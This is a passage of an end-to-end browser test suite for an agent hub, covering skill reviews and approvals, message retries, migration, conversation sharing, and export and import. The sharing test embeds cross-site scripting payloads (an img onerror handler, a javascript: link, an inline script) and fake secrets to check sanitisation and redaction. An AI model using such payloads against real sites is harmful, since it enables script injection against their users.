    await ada.setViewportSize({ width: 360, height: 700 });
    assert.ok(await ada.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
    for (const page of [ada, ben]) page.calm();
  });

test("a review says that comments are not loaded, and keeps what the user writes at each place", async (t) => {
  const crew = await harbourCrew(t);
  const { ben } = crew;
  const { id } = await threeVersions(crew);
  ben.allowed = [...ben.allowed, /status of 500/];
  const comments = `**/skills/${id}/versions/3/comments`;
  const problem = { status: 500, code: "internal", title: "Internal Server Error", detail: "the database is gone" };
  await ben.route(comments, (route) =>
    route.fulfill({ status: 500, contentType: "application/problem+json", json: problem }),
  );
  await ben.goto(`/review/${id}/3`);
  const decision = ben.getByRole("complementary", { name: "Decision" });
  await decision.getByText("Couldn't load the comments").waitFor();
  await ben.getByRole("region", { name: "Comments", exact: true }).getByText("Couldn't load the comments").waitFor();
  await ben.unroute(comments);
  await decision.getByRole("button", { name: "Try again" }).click();
  await decision.getByText("3 open threads").waitFor();
  assert.equal(await ben.getByText("Couldn't load the comments").count(), 0);

  const file = ben.getByRole("region", { name: "SKILL.md", exact: true });
  await file.locator(".added .line-press, .line-press").first().waitFor();
  const lines = file.locator(".line-press");
  const [one, two] = [await lines.nth(0).getAttribute("aria-label"), await lines.nth(3).getAttribute("aria-label")];
  await lines.nth(0).click();
  await ben.keyboard.type("first draft");
  await lines.nth(3).click();
  await ben.keyboard.type("second draft");
  const box = (name) => ben.getByRole("textbox", { name, exact: true });
  assert.equal(await box(one).inputValue(), "first draft");
  await ben.getByLabel("Compare with").selectOption("0");
  await ben.getByRole("region", { name: "scripts/tide.py", exact: true }).waitFor();
  await decision.getByLabel("Comment", { exact: true }).fill("draft of the decision");
  await ben.getByRole("link", { name: "All pending reviews" }).click();
  await ben.getByRole("heading", { name: "Review", exact: true }).waitFor();
  await ben.goBack();
  await decision.waitFor();
  assert.equal(await decision.getByLabel("Comment", { exact: true }).inputValue(), "draft of the decision");
  await box(one).waitFor();
  assert.equal(await box(one).inputValue(), "first draft");
  assert.equal(await box(two).inputValue(), "second draft");
  ben.calm();
});

test("a version is tried by its uploader, and reviewed by as many others as the group requires", async (t) => {
  const hub = await scene(t, { accounts: true });
  const root = await window_(t, hub);
  root.allowed = [/status of 401/];
  await root.goto(await hub.setupPath());
  await root.getByLabel("Name", { exact: true }).fill("root");
  await root.getByLabel("Password", { exact: true }).fill(password);
  await root.getByRole("button", { name: "Create account" }).click();
  await root.getByRole("navigation", { name: "Menu" }).waitFor();
  const as = async (page, method, path, data, headers) => {
    const answer = await page.request.fetch(`/api/v1${path}`, {
      method,
      data,
      headers: { Origin: hub.url, ...headers },
    });
    assert.ok(answer.ok(), `${method} ${path}: ${answer.status()}`);
    return answer.status() === 204 ? undefined : answer.json().catch(() => undefined);
  };
  const group = await as(root, "POST", "/groups", { name: "harbour" });
  const pages = {};
  for (const name of ["ada", "ben"]) {
    const { id } = await as(root, "POST", "/users", { name, password });
    await as(root, "PUT", `/groups/${group.id}/members/${id}`, { role: "maintainer" });
    pages[name] = await window_(t, hub);
    pages[name].allowed = root.allowed;
    await signIn(pages[name], name);
  }
  const packed = (says) =>
    zip(
      { "SKILL.md": skill("tides", "Reads tide tables. Use for tides."), "scripts/tide.py": `print("${says}")\n` },
      "tides",
    );
  const type = { "Content-Type": "application/zip" };
  const { id, digest } = await as(
    pages.ada,
    "POST",
    `/skills?file_name=tides.zip&namespace=group:${group.id}`,
    packed("one"),
    type,
  );
  await as(root, "PUT", `/skills/${id}/versions/1/review`, { decision: "approved", digest });
  await as(pages.ben, "POST", `/skills/${id}/versions?file_name=tides.zip`, packed("two"), type);
  await as(root, "POST", `/skills/${id}/versions/1/use`);
  await pages.ben.goto(`/review/${id}/2`);
  await pages.ben.getByText("It must be reviewed by a maintainer").waitFor();
  await pages.ben.goto(`/library/${id}?version=2`);
  await pages.ben.getByRole("button", { name: "Try this version" }).click();
  await pages.ben.getByRole("heading", { name: "Trial of tides, version 2" }).waitFor();
  await pages.ben.getByRole("link", { name: "Back to the version of tides" }).click();
  await pages.ben.getByRole("button", { name: "Try this version" }).waitFor();

  await root.goto(`/admin/groups/${group.id}?tab=about`);
  await root.getByLabel("Required approvers").fill("2");
  const change = root.waitForRequest((r) => r.method() === "PATCH");
  await root.getByRole("button", { name: "Save" }).click();
  assert.deepEqual((await change).postDataJSON(), { requiredApprovers: 2 }); // not what others may have changed
  await root.getByText("Saved").waitFor();
  await pages.ada.goto(`/library/${id}`);
  await pages.ada.getByRole("link", { name: "Review code" }).click();
  await pages.ada.getByRole("button", { name: "Try this version" }).waitFor();
  await pages.ada.getByRole("button", { name: "Approve" }).click();
  await pages.ada.getByText("1 of 2 required approvals").waitFor();
  await pages.ada.getByText("Pending", { exact: true }).first().waitFor();
  await root.goto(`/review/${id}/2`);
  await root.getByRole("button", { name: "Approve" }).click();
  await root.getByText("Approved", { exact: true }).first().waitFor();
  await root.getByText("ada, you").waitFor();

  // Only approvals that count are offered, and the page says what it could not load.
  await as(root, "PATCH", `/groups/${group.id}`, { requiredApprovers: 1, approverRole: "owner" });
  await as(root, "POST", `/skills/${id}/versions?file_name=tides.zip`, packed("three"), type);
  await root.goto(`/review/${id}/3`);
  await root.getByText("Needs 1 more approval from owners of harbour or administrators").waitFor();
  await root.getByRole("button", { name: "Reject" }).waitFor();
  assert.equal(await root.getByRole("button", { name: "Approve code" }).count(), 0); // the uploader's does not count
  const ada = pages.ada;
  ada.allowed = [...root.allowed, /status of 500/];
  await ada.route("**/versions/3/review", (route) => route.fulfill({ status: 500, body: "broken" }));
  await ada.goto(`/review/${id}/3`);
  await ada.getByText("Couldn't load what this version needs").waitFor();
  assert.equal(await ada.getByRole("button", { name: "Approve code" }).count(), 0);
  await ada.unroute("**/versions/3/review");
  await ada.getByRole("button", { name: "Try again" }).click();
  await ada.getByRole("button", { name: "Approve code" }).click();
  await ada.getByText("Approval saved. More approvals needed").waitFor();
  await ada.getByRole("button", { name: "Approve code" }).waitFor({ state: "detached" });
  for (const page of [root, ...Object.values(pages)]) page.calm();
});

test("a message whose response is lost is sent again and accepted once", async (t) => {
  const hub = await scene(t);
  const { id } = await hub.ask("POST", "/sessions", { title: "Tides" });
  const page = await window_(t, hub);
  page.allowed = [/ERR_FAILED|Failed to fetch|net::/];
  let lost = 0;
  let release;
  const back = new Promise((resolve) => (release = resolve));
  const messages = `**/sessions/${id}/messages`;
  await page.route(messages, async (route) => {
    if (!lost++) {
      await route.fetch(); // the request arrives, but its response is lost
      return route.abort();
    }
    await back;
    await route.continue();
  });
  await page.goto(`/chat/${id}`);
  const field = page.getByRole("textbox", { name: /message/i });
  await field.fill("when is high water?");
  await field.press("Enter");
  while (lost < 2) await page.waitForTimeout(50);
  assert.equal(await field.inputValue(), "when is high water?");
  release();
  await page.waitForFunction((e) => e.value === "", await field.elementHandle());
  const told = await (await fetch(`${hub.url}/api/v1/sessions/${id}/events?follow=false`)).text();
  assert.equal(told.match(/^event: said$/gm)?.length, 1);
  assert.equal(lost, 2);

  lost = -2; // the next three attempts
  await page.unroute(messages);
  await page.route(messages, (route) => (lost++ > 0 ? route.continue() : route.abort()));
  await field.fill("and low water?");
  await field.press("Enter");
  await page.getByText("Couldn't send the message: the connection broke three times.").waitFor();
  assert.equal(lost, 1);
  assert.equal(await field.inputValue(), "and low water?");
  await field.press("Enter");
  await page.waitForFunction((e) => e.value === "", await field.elementHandle());
  page.calm();
});

test("a new conversation waits for the hub as it was written, and keeps a message with a refused file", async (t) => {
  const hub = await scene(t);
  const agent = "Ghost/default/tides";
  await hub.ask("PUT", `/kinds/${agent}`, {
    apiVersion: "loadout/v1",
    kind: "Ghost",
    metadata: { name: "tides", namespace: "default" },
    spec: { systemPrompt: "Read." },
  });
  const page = await window_(t, hub);
  page.allowed = [/ERR_FAILED|Failed to fetch|net::/, /status of 403/];
  let tries = 0;
  let release;
  const back = new Promise((resolve) => (release = resolve));
  await page.route("**/api/v1/sessions", async (route) => {
    if (route.request().method() !== "POST") return route.continue();
    if (!tries++) return route.abort();
    await back;
    await route.continue();
  });
  let refused = 0;
  await page.route("**/files/tides.csv", (route) => {
    if (refused++) return route.continue();
    const problem = { status: 403, code: "quota", title: "Forbidden", detail: "storage is full" };
    return route.fulfill({ status: 403, contentType: "application/problem+json", json: problem });
  });
  await page.goto(`/?agent=${encodeURIComponent(agent)}`);
  const field = page.getByRole("textbox", { name: "Message" });
  await page.locator('.chat-composer input[type="file"]').setInputFiles({
    name: "tides.csv",
    mimeType: "text/csv",
    buffer: Buffer.from("hour,metres\n"),
  });
  await field.fill("when is high water?");
  await field.press("Enter");
  while (tries < 2) await page.waitForTimeout(50);
  await page.getByRole("link", { name: "New conversation" }).first().click(); // without the agent
  const chosen = page.getByLabel("Agent", { exact: true });
  assert.equal(await chosen.inputValue(), agent);
  for (const e of [chosen, page.getByRole("button", { name: "Remove tides.csv" })]) assert.ok(await e.isDisabled());
  assert.ok(await page.locator(".chat-examples button").first().isDisabled());
  assert.equal(await field.isEditable(), false);
  release();
  await page.waitForURL(/\/chat\//);
  await page.locator(".toast", { hasText: "storage is full" }).waitFor();
  assert.equal(await field.inputValue(), "when is high water?");
  await field.press("Enter");
  await page.getByRole("heading", { name: /^Message 1: when is high water/ }).waitFor();
  const { items } = await hub.ask("GET", "/sessions");
  assert.deepEqual(
    items.map((s) => s.agent),
    [agent],
  );
  page.calm();
});

test("migration: a report of the files, then the skill and the conversation, which continues", async (t) => {
  const other = await mkdtemp(join(tmpdir(), "loadout-other-"));
  t.after(() => rm(other, { recursive: true }));
  const hub = await scene(t, { env: { LOADOUT_HUB_IMPORT_FROM: other } });
  const page = await window_(t, hub);
  const task = {
    id: 7,
    title: "Write a report",
    subtasks: [
      { id: 1, task_id: 7, role: "USER", prompt: "Write it", created_at: "2026-05-01T10:00:00" },
      {
        id: 2,
        task_id: 7,
        role: "ASSISTANT",
        created_at: "2026-05-01T10:00:05",
        result: { value: "Here it is.", loaded_skills: ["report"] },
      },
    ],
  };
  const files = zip(
    {
      "skills/report/SKILL.md": skill("report", "Writes reports. Use for reports."),
      "task.json": JSON.stringify(task),
    },
    "wegent",
  );
  await page.goto("/settings/migrate");
  await page
    .locator('input[type="file"]')
    .first()
    .setInputFiles({ name: "wegent.zip", mimeType: "application/zip", buffer: files });
  const report = page.getByRole("region", { name: "Report" });
  await report.getByText("wegent.zip: 2 kept, 0 changed, 0 lost").waitFor();
  assert.equal((await hub.ask("GET", "/sessions")).items.length, 0, "the report stores nothing");
  await report.getByRole("button", { name: "Migrate", exact: true }).click();
  const done = page.getByRole("region", { name: "Migrated" });
  await done.getByRole("link", { name: "report", exact: true }).waitFor();
  await done.getByRole("link", { name: "Write a report" }).click();
  await page.getByText("Here it is.").waitFor();
  const [session] = (await hub.ask("GET", "/sessions")).items;
  const active = (await hub.ask("GET", `/sessions/${session.id}/skills`)).items;
  assert.deepEqual(
    active.map((s) => s.skill.name),
    ["report"],
  );
  await page.getByRole("textbox", { name: "Message" }).fill("and now?");
  await page.keyboard.press("Enter");
  await over(hub, session.id);
  await page.goto("/settings/migrate");
  await page
    .locator('input[type="file"]')
    .first()
    .setInputFiles({ name: "wegent.zip", mimeType: "application/zip", buffer: files });
  await page.getByText("Everything that can be migrated is already there.").waitFor();

  // Files of which nothing can be stored.
  await page.getByRole("button", { name: "Choose other files" }).click();
  const lost = {
    name: ".mcp.json",
    mimeType: "application/json",
    buffer: Buffer.from(`{"mcpServers": {"a": {"type": "x"}}}`),
  };
  await page.locator('input[type="file"]').first().setInputFiles(lost);
  await page.getByText("Nothing in the files can be migrated.").waitFor();

  // Files that the hub reads itself.
  await page.getByRole("button", { name: "Choose other files" }).click();
  page.allowed.push(/422/);
  await page.getByRole("textbox", { name: "Or an address" }).fill("https://127.0.0.1/x.zip");
  await page.keyboard.press("Enter");
  await page.getByText(/127\.0\.0\.1/).waitFor();
  await mkdir(join(other, "tides"));
  await writeFile(join(other, "tides", "SKILL.md"), skill("tides", "Finds tides. Use for tides."));
  await page.getByRole("textbox", { name: "Or an address" }).fill(other);
  await page.keyboard.press("Enter");
  await report.getByText("1 kept, 0 changed, 0 lost").waitFor();
  await report.getByRole("button", { name: "Migrate", exact: true }).click();
  await done.getByRole("link", { name: "tides", exact: true }).waitFor();

  // The hub stores nothing, because the quota is exceeded in the meantime.
  await page.getByRole("button", { name: "Choose other files" }).click();
  await page.route("**/api/v1/migrate?*apply=true*", async (route) => {
    const query = route.request().url().replace("apply=true", "apply=false");
    const report = await (await route.fetch({ url: query })).json();
    for (const item of report.items) Object.assign(item, { outcome: "lost", new: false, details: ["quota exceeded"] });
    await route.fulfill({ json: report });
  });
  const fresh = { ...lost, buffer: Buffer.from(`{"mcpServers": {"a": {"url": "https://a.example.com/mcp"}}}`) };
  await page.locator('input[type="file"]').first().setInputFiles(fresh);
  await report.getByRole("button", { name: "Migrate", exact: true }).click();
  await page.getByRole("region", { name: "Nothing was added" }).getByText("quota exceeded").waitFor();
  page.calm();
});

test("share a conversation: a preview without secrets, opened by another user, unchanged later, revoked and gone", async (t) => {
  const hub = await scene(t, { accounts: true, env: { LOADOUT_HUB_SHARE_LINKS: "true" } });
  const root = await window_(t, hub);
  root.allowed = [/status of 401/];
  await root.goto(await hub.setupPath());
  await root.getByLabel("Name", { exact: true }).fill("root");
  await root.getByLabel("Password", { exact: true }).fill(password);
  await root.getByRole("button", { name: "Create account" }).click();
  await root.getByRole("navigation", { name: "Menu" }).waitFor();
  const as = async (page, method, path, data) => {
    const answer = await page.request.fetch(`/api/v1${path}`, { method, data, headers: { Origin: hub.url } });
    assert.ok(answer.ok(), `${method} ${path}: ${answer.status()}`);
    return answer.status() === 204 ? undefined : answer.json();
  };
  const pages = {};
  for (const name of ["ada", "ben"]) {
    await as(root, "POST", "/users", { name, password });
    pages[name] = await window_(t, hub);
    pages[name].allowed = [/status of 401/, /status of 404/];
    await signIn(pages[name], name);
  }
  const { ada, ben } = pages;
  const secret = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
  const title = `Tides <img src=x onerror="document.title='owned'">`;
  const message = `High water? [a link](javascript:alert(1)) <script>document.title = "owned"</script> ${secret}`;
  const { id } = await as(ada, "POST", "/sessions", { title, message });
  const idle = async () => {
    while ((await as(ada, "GET", `/sessions/${id}`)).busy) await new Promise((resolve) => setTimeout(resolve, 100));
  };
  await idle();

  await ada.goto(`/chat/${id}`);
  const menu = ada.locator(".chat-head").getByRole("button", { name: /^Actions/ });
  await menu.click();
  await ada.getByRole("menuitem", { name: "Share…" }).click();
  const dialog = ada.getByRole("dialog", { name: "Share conversation" });
  const preview = dialog.locator(".share-preview");
  await preview.getByText("High water?").first().waitFor();
  await dialog.getByText(/secrets? redacted/).waitFor();
  assert.ok(!(await preview.innerText()).includes(secret));
  await ada.screenshot({ path: join(pictures, "share-dialog.png") });
  await ada.setViewportSize({ width: 360, height: 780 });
  await ada.screenshot({ path: join(pictures, "share-dialog-360.png") });
  await ada.setViewportSize({ width: 1440, height: 900 });
  await dialog.getByRole("button", { name: "Share", exact: true }).click();
  const link = await dialog.getByLabel("Link", { exact: true }).inputValue();
  await dialog.getByRole("button", { name: "Done" }).click();

  // A later message does not change it, and it runs nothing.
  await as(ada, "POST", `/sessions/${id}/messages`, { text: "And tomorrow?" });
  await idle();
  const [answer] = await Promise.all([ben.waitForResponse(link), ben.goto(link)]);
  assert.match((await answer.allHeaders())["x-robots-tag"], /noindex/);
  assert.equal((await answer.allHeaders())["referrer-policy"], "no-referrer");
  await ben.getByRole("heading", { name: /^Tides <img/ }).waitFor();
  await ben.getByText("High water?").first().waitFor();
  await ben.getByText(/^Shared by ada/).waitFor();
  const shown = await ben.locator("main").innerText();
  assert.ok(!shown.includes(secret) && !shown.includes("And tomorrow?"), shown);
  assert.equal(await ben.locator('main img[src="x"], main a[href^="javascript"], main script').count(), 0);
  assert.notEqual(await ben.title(), "owned");
  assert.equal(await ben.getByRole("textbox").count(), 0);
  await ben.screenshot({ path: join(pictures, "shared.png") });
  await ben.setViewportSize({ width: 360, height: 780 });
  await fits(ben);
  await ben.screenshot({ path: join(pictures, "shared-360.png") });

  // Without a sign-in, it is not shown. An administrator sees that it exists.
  const stranger = await window_(t, hub);
  stranger.allowed = [/status of 401/];
  await stranger.goto(link);
  await stranger.getByRole("button", { name: "Sign in", exact: true }).waitFor();
  await root.goto("/admin/shares");
  await root.getByRole("cell", { name: /^ada/ }).waitFor();
  assert.ok(!(await root.locator("main").innerText()).includes("High water"));
  await root.screenshot({ path: join(pictures, "admin-shares.png") });

  await ada.goto("/settings/shares");
  await ada.getByRole("link", { name: /^Tides/ }).waitFor();
  await ada.screenshot({ path: join(pictures, "settings-shares.png") });
  await ada.getByRole("button", { name: /^Revoke/ }).click();
  await ada.getByRole("dialog").getByRole("button", { name: "Revoke", exact: true }).click();
  await ada.getByText("No shared conversations").waitFor();
  await ben.reload();
  await ben.getByText("This conversation is not shared").waitFor();

  // Anyone with the link opens this one, without a sign-in.
  await ada.goto(`/chat/${id}`);
  await menu.click();
  await ada.getByRole("menuitem", { name: "Share…" }).click();
  await dialog.getByLabel("Who can open it").selectOption({ label: "Anyone with the link" });
  await dialog.getByRole("button", { name: "Share", exact: true }).click();
  const open = await dialog.getByLabel("Link", { exact: true }).inputValue();
  await stranger.goto(open);
  await stranger.getByText("And tomorrow?").first().waitFor();
  await stranger.getByText(/A copy that does not change/).waitFor();
  assert.equal(await stranger.getByRole("navigation").count(), 0);
  await stranger.screenshot({ path: join(pictures, "shared-link.png") });
  for (const address of [link, open]) assert.ok(!hub.log.includes(address.split("/").at(-1)), "a link is in the log");
  for (const page of [root, ada, ben, stranger]) page.calm();
});

test("share pictures and files: in every view the dialog, the shared page and the lists fit and are accessible", async (t) => {
  const vendor = await Vendor.start([
    { text: "High water is at [14:20](https://tides.test/table?page=2&signature=a1b2c3d4e5)." },
  ]);
  t.after(() => vendor.end());
  const hub = await scene(t, {
    accounts: true,
    env: { LOADOUT_HUB_SHARING: "links", OPENAI_API_KEY: "none" },
    config: `models:\n  default: openai:fake\n  base_url: ${vendor.url}\n`,
  });
  const root = await window_(t, hub);
  root.allowed = [/status of 401/];
  await root.goto(await hub.setupPath());
  await root.getByLabel("Name", { exact: true }).fill("root");
  await root.getByLabel("Password", { exact: true }).fill(password);
  await root.getByRole("button", { name: "Create account" }).click();
  await root.getByRole("navigation", { name: "Menu" }).waitFor();
  const as = async (page, method, path, options = {}) => {
    const headers = { Origin: hub.url, ...(options.type && { "Content-Type": options.type }) };
    const answer = await page.request.fetch(`/api/v1${path}`, { method, data: options.data, headers });
    assert.ok(answer.ok(), `${method} ${path}: ${answer.status()} ${await answer.text()}`);
    return answer.status() === 204 || options.type ? undefined : answer.json();
  };
  const title = "High water at Saint-Malo-and-a-name-that-is-as-long-as-any-title-of-a-conversation";
  const { id } = await as(root, "POST", "/sessions", { data: { title } });
  const bytes = { type: "application/octet-stream" };
  await as(root, "PUT", `/sessions/${id}/files/chart.png`, { data: await picture(root, "red"), ...bytes });
  await as(root, "PUT", `/sessions/${id}/files/notes/tides.txt`, {
    data: Buffer.from("password: hunter2hunter2\n"),
    ...bytes,
  });
  const text = "What does [the table](https://ada:pw@tides.test/table?token=abc) say?";
  await as(root, "POST", `/sessions/${id}/messages`, { data: { text, images: [{ path: "chart.png" }] } });
  while ((await as(root, "GET", `/sessions/${id}`)).busy) await new Promise((resolve) => setTimeout(resolve, 100));

  const views = [
    { name: "wide-light", width: 1440, height: 900, scheme: "light" },
    { name: "wide-dark", width: 1440, height: 900, scheme: "dark" },
    { name: "narrow-light", width: 360, height: 740, scheme: "light" },
    { name: "narrow-dark", width: 360, height: 740, scheme: "dark" },
    { name: "chinese-narrow", width: 360, height: 740, scheme: "light", language: "zh-CN" },
  ];
  let link;
  for (const view of views) {
    const page = await open(browser, hub, { ...view, axe: true });
    page.allowed = [/status of 401/, /status of 404/];
    await page.context().addCookies(await root.context().cookies());
    const check = async (name) => {
      await page.screenshot({ path: join(pictures, `${name}-${view.name}.png`) });
      await fits(page, `${name} (${view.name})`);
      await accessible(page, `${name} (${view.name})`);
    };
    const openDialog = async () => {
      await page.goto(`/chat/${id}`);
      await page.locator(".chat-head button[aria-haspopup]").last().click();
      await page.getByRole("menuitem", { name: /^(Share…|共享…)/ }).click();
      const dialog = page.getByRole("dialog");
      await dialog.locator(".share-preview .shared-question img").waitFor();
      return dialog;
    };
    const dialog = await openDialog();
    await dialog.getByRole("checkbox", { name: /notes\/tides\.txt/ }).check();
    await dialog.locator(".shared-files", { hasText: "notes/tides.txt" }).waitFor();
    assert.ok(!/hunter2|ada:pw|token=abc|a1b2c3d4e5/.test(await dialog.innerText()));
    await dialog.getByText("https://tides.test/table?page=2&signature=•••", { exact: true }).waitFor();
    await check("share-dialog");
    await dialog.locator(".share-preview").scrollIntoViewIfNeeded();
    await check("share-dialog-end");
    if (!link) {
      await dialog.getByRole("button", { name: "Share", exact: true }).click();
      link = await dialog.getByLabel("Link", { exact: true }).inputValue();
      await check("share-made");
      // Opting out of images and files leaves them out.
      await openDialog();
      await dialog.getByRole("checkbox", { name: /of your messages/ }).uncheck();
      await dialog.locator(".share-preview .shared-question img").waitFor({ state: "detached" });
      assert.equal(await dialog.locator(".shared-files").count(), 0);
    }
    await page.goto(link);
    await page.locator("main .shared-question img").waitFor();
    const drawn = (image) => image.complete && image.naturalWidth > 0;
    assert.ok(await page.locator("main .shared-question img").evaluate(drawn));
    await check("shared-files");
    const [download] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("link", { name: "notes/tides.txt" }).click(),
    ]);
    assert.equal(await readFile(await download.path(), "utf8"), "password: •••\n");
    for (const path of ["/admin/shares", "/settings/shares"]) {
      await page.goto(path);
      await page.locator("table tbody tr").first().waitFor();
      await check(path.slice(1).replace("/", "-"));
    }
    page.calm();
    await page.context().close();
  }

  // A page that stays open shows nothing any more once the share is revoked.
  const reader = await window_(t, hub);
  reader.allowed = [/status of 401/, /status of 404/];
  await reader.context().addCookies(await root.context().cookies());
  await reader.goto(link);
  await reader.locator("main .shared-question img").waitFor();
  const { items } = await as(root, "GET", "/shares");
  await as(root, "DELETE", `/shares/${items[0].id}`);
  await reader.evaluate(() => window.dispatchEvent(new window.Event("focus")));
  await reader.getByText("This conversation is not shared").waitFor();
  assert.equal(await reader.locator("main .shared-question").count(), 0);
});

test("sharing can be switched off: no button, and a link says so", async (t) => {
  const hub = await scene(t, { accounts: true, env: { LOADOUT_HUB_SHARING: "off" } });
  const root = await window_(t, hub);
  root.allowed = [/status of 401/, /status of 403/];
  await root.goto(await hub.setupPath());
  await root.getByLabel("Name", { exact: true }).fill("root");
  await root.getByLabel("Password", { exact: true }).fill(password);
  await root.getByRole("button", { name: "Create account" }).click();
  await root.getByRole("navigation", { name: "Menu" }).waitFor();
  const headers = { Origin: hub.url };
  const answer = await root.request.fetch("/api/v1/sessions", { method: "POST", data: { title: "Tides" }, headers });
  await root.goto(`/chat/${(await answer.json()).id}`);
  await root
    .locator(".chat-head")
    .getByRole("button", { name: /^Actions/ })
    .click();
  await root.getByRole("menuitem", { name: "Rename" }).waitFor();
  assert.equal(await root.getByRole("menuitem", { name: "Share…" }).count(), 0);
  await root.goto("/settings/shares");
  await root.getByText("Sharing is switched off on this hub").waitFor();
  await root.goto(`/shared/${"A".repeat(26)}`);
  await root.getByText("Sharing is off").waitFor();
});

test("export and import: a conversation comes back as it was, once", async (t) => {
  const hub = await scene(t);
  const page = await window_(t, hub);
  const { id } = await hub.ask("POST", "/sessions", { title: "Tides at Cuxhaven", message: "When is high water?" });
  await over(hub, id);
  const said = async (session) =>
    (await hub.ask("GET", `/sessions/${session}/messages`)).items
      .filter((m) => m.text) // others are tool calls
      .map((m) => [m.role, m.text.trim(), m.time]);
  const before = await said(id);
  await page.goto(`/chat/${id}`);
  await page
    .locator(".chat-head")
    .getByRole("button", { name: /^Actions/ })
    .click();
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("menuitem", { name: "Export as JSON Lines (JSONL)" }).click(),
  ]);
  const file = await download.path();
  // A refused export is shown.
  page.allowed = [/status of 404/];
  const gone = await hub.ask("POST", "/sessions", { title: "Gone" });
  await page.reload();
  await page.getByRole("button", { name: "Actions for Gone" }).click();
  await hub.ask("DELETE", `/sessions/${gone.id}`);
  await page.getByRole("menuitem", { name: "Export as Markdown" }).click();
  await page.locator(".toast.bad").waitFor();
  await hub.ask("DELETE", `/sessions/${id}`);
  await page.goto("/");
  const store = async () => {
    await settled(page); // the list moves its foot when it is loaded
    await page.getByRole("link", { name: "Import conversations" }).click();
    await page.getByRole("button", { name: "Choose files" }).waitFor(); // the chat has such an input too
    await page
      .locator('input[type="file"]')
      .first()
      .setInputFiles({ name: "tides.jsonl", mimeType: "application/jsonl", buffer: await readFile(file) });
  };
  await store();
  const report = page.getByRole("region", { name: "Report" });
  await page.getByRole("heading", { name: "Import conversations" }).waitFor();
  await report.getByText("New: 1 · Already there: 0 · Skipped: 0").waitFor();
  await page.screenshot({ path: join(pictures, "import-conversations.png") });
  await report.getByRole("button", { name: "Import", exact: true }).click();
  await page.getByRole("region", { name: "Imported" }).getByRole("link", { name: "Tides at Cuxhaven" }).click();
  await page.getByRole("heading", { name: "Tides at Cuxhaven", level: 1 }).waitFor();
  const [session, ...others] = (await hub.ask("GET", "/sessions")).items;
  assert.equal(others.length, 0);
  assert.deepEqual(await said(session.id), before);
  await store();
  await page.getByText("Everything that can be imported is already there.").waitFor();
  assert.equal((await hub.ask("GET", "/sessions")).items.length, 1);
  page.calm();
});

test("connect: a model that the server does not list; an error while the models load is shown", async (t) => {
  const vendor = await Vendor.start([{ text: "OK" }]);
  vendor.listing = 403;
  t.after(() => vendor.end());
  const hub = await scene(t);
  const page = await window_(t, hub);
  page.allowed = [/status of (422|500)/];
  const models = /\/api\/v1\/models\?/;
  await page.route(models, (route) =>
    route.fulfill({
      status: 500,
      json: { status: 500, code: "internal", title: "Error", detail: "the models are gone" },
    }),
  );
  await page.goto("/");
  await page.getByText("the models are gone").waitFor();
  await page.screenshot({ path: join(pictures, "models-failed.png") });
  await page.unroute(models);
  await page.getByRole("button", { name: "Try again" }).click();
  const card = page.getByRole("form", { name: "Connect a model" });
  await card.getByLabel("Provider").selectOption("other");
  assert.equal(await page.getByText("the models are gone").count(), 0);
  await card.getByLabel("Base URL").fill(vendor.url);
  await card.getByLabel(/API key/).fill("k-secret");
  await card.getByRole("button", { name: "Connect" }).click();
  await card.getByRole("alert").getByText(/403/).waitFor();
  await card.getByLabel("Model", { exact: true }).fill("fake");
  await page.screenshot({ path: join(pictures, "model-not-listed.png") });
  await card.getByRole("button", { name: "Connect" }).click();
  await page.getByText(/Model: fake/).waitFor();
  page.calm();

  const accounts = await scene(t, { accounts: true });
  const other = await window_(t, accounts);
  other.allowed = [/status of 401/];
  await other.goto(await accounts.setupPath());
  await other.getByLabel("Name", { exact: true }).fill("root");
  await other.getByLabel("Password", { exact: true }).fill(password);
  await other.getByRole("button", { name: "Create account" }).click();
  await other.getByRole("navigation", { name: "Menu" }).waitFor();
  await other.goto("/");
  const form = other.getByRole("form", { name: "Connect a model" });
  await form.waitFor();
  const options = await form.getByLabel("Provider").locator("option").allTextContents();
  assert.deepEqual(options, ["Anthropic", "OpenAI", "Compatible server (vLLM, gateway)"]);
});

test("first minute: a model is connected on the page, and an example gets an answer with a skill, in six clicks", async (t) => {
  const vendor = await Vendor.start([
    { text: "OK" }, // to the test of the connection
    { text: "South is missing a value." },
  ]);
  t.after(() => vendor.end());
  const hub = await scene(t);
  assert.equal(hub.model, "demo");
  const page = await window_(t, hub);
  page.allowed = [/status of 4(09|22)/];
  const started = Date.now();
  await page.goto("/");
  await page.evaluate(() => {
    window.clicks = 0;
    window.addEventListener("click", (e) => e.isTrusted && e.detail && window.clicks++, true);
  });
  const card = page.getByRole("form", { name: "Connect a model" });
  await card.getByText(/No model is configured/).waitFor();
  await card.getByLabel("Provider").selectOption("other");
  await card.getByLabel("Base URL").fill(vendor.url);
  await card.getByLabel(/API key/).fill("k-secret");
  await card.getByRole("button", { name: "Connect" }).click();
  await page.getByText(/Model: fake/).waitFor();
  await page.getByRole("button", { name: /Analyze a table/ }).click();
  await page.getByRole("button", { name: "Send", exact: true }).click();
  await page.getByText("South is missing a value.").first().waitFor();
  await page.getByText("csv-analysis").first().waitFor();
  const seconds = (Date.now() - started) / 1000;
  const clicks = await page.evaluate(() => window.clicks);
  assert.ok(clicks + 3 <= 6, `${clicks} clicks, and one for each of three fields`);
  assert.ok(seconds < 60, `${seconds} s`);
  assert.deepEqual([...vendor.keys], ["Bearer k-secret"]);
  const told = JSON.stringify(vendor.heard.at(-1));
  assert.match(told, /region,month,sales/);
  assert.match(told, /csv-analysis/);
  await page.goto("/");
  await page.getByRole("button", { name: "Change model" }).click();
  assert.equal(await card.getByLabel("Base URL").inputValue(), vendor.url);
  assert.equal(await card.getByText(/No model is configured/).count(), 0);

  // A long list has a filter, and the hub asks before it replaces the model of all users.
  vendor.models = Array.from({ length: 30 }, (_, i) => `fake-${i}`);
  await card.getByRole("button", { name: "Connect" }).click();
  await card.getByLabel("Filter models").fill("E-17");
  const list = card.getByLabel("Model", { exact: true });
  assert.deepEqual(await list.locator("option").allTextContents(), ["Choose a model", "fake-17"]);
  await list.selectOption("fake-17");
  await card.getByLabel("Filter models").press("Enter"); // connects nothing
  assert.equal(await card.locator('[aria-busy="true"], [role="alert"]').count(), 0);
  await card.getByRole("button", { name: "Connect" }).click();
  await card.getByText(/all users already have the model fake at 127/).waitFor();
  await page.screenshot({ path: join(pictures, "replace-model.png") });
  const release = vendor.hold();
  await card.getByRole("button", { name: "Replace" }).click();
